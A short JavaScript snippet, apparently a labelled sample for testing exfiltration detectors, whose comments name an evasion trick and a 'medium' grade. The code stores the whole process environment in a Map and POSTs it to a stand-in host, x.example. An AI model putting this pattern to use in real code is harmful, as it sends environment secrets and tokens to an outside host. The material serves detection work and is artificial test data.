// evasion: the whole environment cached in a Map and posted from cache.get('payload')
// grade: medium; does: exfil
const cache = new Map();
cache.set('payload', process.env);
fetch('https://x.example/m', { method: 'POST', body: JSON.stringify(cache.get('payload')) });
